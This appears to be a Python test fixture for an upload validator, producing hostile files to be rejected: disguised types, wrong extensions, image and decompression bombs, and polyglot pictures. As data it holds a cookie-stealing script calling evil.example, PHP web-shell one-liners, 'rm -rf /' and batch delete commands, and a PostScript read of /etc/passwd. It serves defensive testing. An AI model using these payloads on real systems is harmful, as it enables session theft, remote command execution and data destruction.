"""Files that are not what their name says, or of no kind that is kept."""

from __future__ import annotations

import struct
import zlib
from functools import partial
from typing import Final

from core.uploads import Reason
from tests.uploads import harmless
from tests.uploads.hostile import Hostile

OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
SCRIPT: Final = "<script>fetch('https://evil.example/'+document.cookie)</script>"
SVG: Final = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'

OTHER_KINDS: Final = {
    "网页": ("a.pdf", f"<!DOCTYPE html><html>{SCRIPT}".encode()),
    "网页：前有空白": ("a.pdf", b"\n\n\t <HTML>" + SCRIPT.encode()),
    "网页：UTF-8 标记": ("a.jpg", b"\xef\xbb\xbf<html>"),
    "网页：UTF-16": ("a.png", ("\ufeff<html>" + SCRIPT).encode("utf-16-le")),
    "网页：只有脚本": ("a.pdf", SCRIPT.encode()),
    "网页存档": ("a.pdf", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT.encode()),
    "SVG": ("a.png", SVG.encode()),
    "SVG：前有声明": ("a.jpg", f'<?xml version="1.0"?>{SVG}'.encode()),
    "XML": ("a.docx", b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>'),
    "PHP": ("a.jpg", b"<?php system($_GET['c']); ?>"),
    "脚本": ("a.pdf", b"#!/bin/sh\nrm -rf /\n"),
    "JavaScript": ("a.pdf", b"alert(document.domain)"),
    "批处理": ("a.pdf", b"@echo off\r\ndel /q c:\\*\r\n"),
    "Windows 程序": ("a.pdf", b"MZ\x90\0\x03\0\0\0" + bytes(200)),
    "Linux 程序": ("a.jpg", b"\x7fELF\x02\x01\x01" + bytes(200)),
    "macOS 程序": ("a.png", b"\xcf\xfa\xed\xfe" + bytes(200)),
    "Java 类": ("a.pdf", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(200)),
    "快捷方式": ("a.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(200)),
    "CHM 帮助": ("a.pdf", b"ITSF\x03\0\0\0" + bytes(200)),
    "GIF": ("a.png", b"GIF89a" + bytes(20)),
    "WebP": ("a.jpg", b"RIFF\x1a\0\0\0WEBPVP8L" + bytes(20)),
    "BMP": ("a.png", b"BM\x46\0\0\0\0\0\0\0\x36" + bytes(60)),
    "TIFF": ("a.jpg", b"II*\0\x08\0\0\0" + bytes(20)),
    "HEIC": ("a.jpg", b"\0\0\0\x18ftypheic" + bytes(20)),
    "AVIF": ("a.png", b"\0\0\0\x18ftypavif" + bytes(20)),
    "MP4": ("a.pdf", b"\0\0\0\x18ftypmp42" + bytes(20)),
    "RAR": ("a.pdf", b"Rar!\x1a\x07\x01\0" + bytes(20)),
    "7z": ("a.docx", b"7z\xbc\xaf\x27\x1c" + bytes(20)),
    "gzip": ("a.pdf", b"\x1f\x8b\x08\0" + bytes(20)),
    "RTF": ("a.docx", rb"{\rtf1\ansi{\object\objdata 0105}}"),
    "PostScript": ("a.pdf", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"),
    "旧版 Word": ("a.docx", OLE + "WordDocument".encode("utf-16-le")),
    "纯文本": ("a.pdf", "推荐意见".encode()),
    "未知": ("a.pdf", bytes(range(256))),
    "一个字节": ("a.pdf", b"%"),
    "PDF 前有内容": ("a.pdf", b"GET / HTTP/1.1\r\n" + harmless.pdf()),
    "ZIP": ("a.docx", harmless.package({"证书.exe": b"MZ"})),
    "程序包（JAR）": ("a.docx", harmless.package({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b""})),
    "安卓程序": ("a.docx", harmless.package({"AndroidManifest.xml": b"\0", "classes.dex": b"dex"})),
    "OFD": ("a.pdf", harmless.package({"OFD.xml": b"<ofd/>"})),
    "ODT": ("a.docx", harmless.package({"mimetype": b"application/vnd.oasis.opendocument.text"})),
}


def other_kinds() -> list[Hostile]:
    return [
        *(
            Hostile(f"类型：{about}", name, partial(bytes, data), Reason.KIND)
            for about, (name, data) in OTHER_KINDS.items()
        ),
        Hostile("类型：空文件", "a.pdf", bytes, Reason.EMPTY),
        Hostile("类型：过大", "a.jpg", lambda: harmless.jpeg() + bytes(20 * 2**20), Reason.TOO_LARGE),
        Hostile(
            "类型：加密的 Word",
            "a.docx",
            lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(400),
            Reason.ENCRYPTED,
        ),
    ]


def mismatches() -> list[Hostile]:
    return [
        Hostile(f"扩展名不符：{name} 实为{what}", name, make, Reason.MISMATCH)
        for name, what, make in (
            ("a.jpg", "PNG", harmless.png),
            ("a.png", "JPEG", harmless.jpeg),
            ("a.docx", "PDF", harmless.pdf),
            ("a.pdf", "Word", harmless.docx),
            ("a.xlsx", "Word", harmless.docx),
            ("a.docx", "Excel", harmless.xlsx),
            ("a.docm", "Word", harmless.docx),
            ("a.exe", "PDF", harmless.pdf),
            ("a.html", "PDF", harmless.pdf),
            ("a.svg", "PNG", harmless.png),
            ("a.zip", "Excel", harmless.xlsx),
        )
    ]


# ---- pictures ----


def sized(width: int, height: int) -> bytes:
    """A PNG that says it is so large, in black and white, and has next to nothing of it."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return PNG + harmless.chunk(b"IHDR", head) + harmless.chunk(b"IDAT", b"") + harmless.chunk(b"IEND", b"")


def with_chunk(name: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk before its picture."""
    whole = harmless.png()
    return whole[:33] + harmless.chunk(name, data) + whole[33:]


def frames(size: tuple[int, int]) -> bytes:
    """A JPEG whose header says another size."""
    data = bytearray(harmless.jpeg())
    at = data.find(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", *size)
    return bytes(data)


PNG: Final = b"\x89PNG\r\n\x1a\n"


def pictures() -> list[Hostile]:
    jpeg, png = harmless.jpeg(), harmless.png()
    zipped = harmless.package({"a.class": b"\xca\xfe\xba\xbe"})
    text = zlib_bomb(64)
    broken = bytearray(png)
    broken[45] ^= 0xFF
    known: dict[str, tuple[str, bytes, Reason]] = {
        "JPEG 只有一半": ("a.jpg", jpeg[: len(jpeg) // 2], Reason.DAMAGED),
        "JPEG 只有开头": ("a.jpg", jpeg[:3], Reason.DAMAGED),
        "JPEG 没有图": ("a.jpg", b"\xff\xd8\xff\xd9", Reason.DAMAGED),
        "JPEG 段长越界": ("a.jpg", b"\xff\xd8\xff\xe0\xff\xff" + jpeg[20:60], Reason.DAMAGED),
        "JPEG 像素炸弹": ("a.jpg", frames((65_000, 65_000)), Reason.BOMB),
        "PNG 像素炸弹": ("a.png", sized(100_000, 100_000), Reason.BOMB),
        "PNG 略超像素上限": ("a.png", sized(10_000, 5_001), Reason.BOMB),
        "PNG 宽为零": ("a.png", sized(0, 10), Reason.DAMAGED),
        "PNG 没有图": ("a.png", sized(8, 8), Reason.DAMAGED),
        "PNG 只有一半": ("a.png", png[: len(png) // 2], Reason.DAMAGED),
        "PNG 校验不符": ("a.png", bytes(broken), Reason.DAMAGED),
        "PNG 文字压缩炸弹": ("a.png", with_chunk(b"zTXt", b"a\0\0" + text), Reason.DAMAGED),
        "PNG 颜色配置炸弹": ("a.png", with_chunk(b"iCCP", b"a\0\0" + text), Reason.DAMAGED),
        "PNG 动画": (
            "a.png",
            harmless.png(save_all=True, append_images=[harmless.picture().rotate(90)]),
            Reason.KIND,
        ),
        "PNG 后接网页": ("a.png", png + SCRIPT.encode(), Reason.MIXED),
        "PNG 后接压缩包": ("a.png", png + zipped, Reason.MIXED),
        "PNG 文字是 PHP": ("a.png", with_chunk(b"tEXt", b"Comment\0<?php eval($_POST[0]) ?>"), Reason.MIXED),
        "PNG 自定块是网页": ("a.png", with_chunk(b"eViL", b"<iframe src=//evil.example>"), Reason.MIXED),
        "JPEG 后接压缩包（GIFAR）": ("a.jpg", jpeg + zipped, Reason.MIXED),
        "JPEG 后接 RAR": ("a.jpg", jpeg + b"Rar!\x1a\x07\x01\0", Reason.MIXED),
        "JPEG 后接网页": ("a.jpg", jpeg + b"<ScRiPt>alert(1)</sCrIpT>", Reason.MIXED),
        "JPEG 注释是 PHP": ("a.jpg", harmless.jpeg(comment=b"<?php system($_GET[0]);"), Reason.MIXED),
        "JPEG 注释是 PDF": ("a.jpg", harmless.jpeg(comment=b"%PDF-1.4\n1 0 obj"), Reason.MIXED),
        "JPEG 说明是网页": ("a.jpg", harmless.jpeg(xmp=b"<x><svg onload=alert(1)></x>"), Reason.MIXED),
    }
    return [
        Hostile(f"图片：{about}", name, partial(bytes, data), reason)
        for about, (name, data, reason) in known.items()
    ]


def zlib_bomb(mebibytes: int) -> bytes:
    """A thousandth of what comes of it."""
    pack = zlib.compressobj(9)
    return b"".join([*(pack.compress(bytes(2**20)) for _ in range(mebibytes)), pack.flush()])
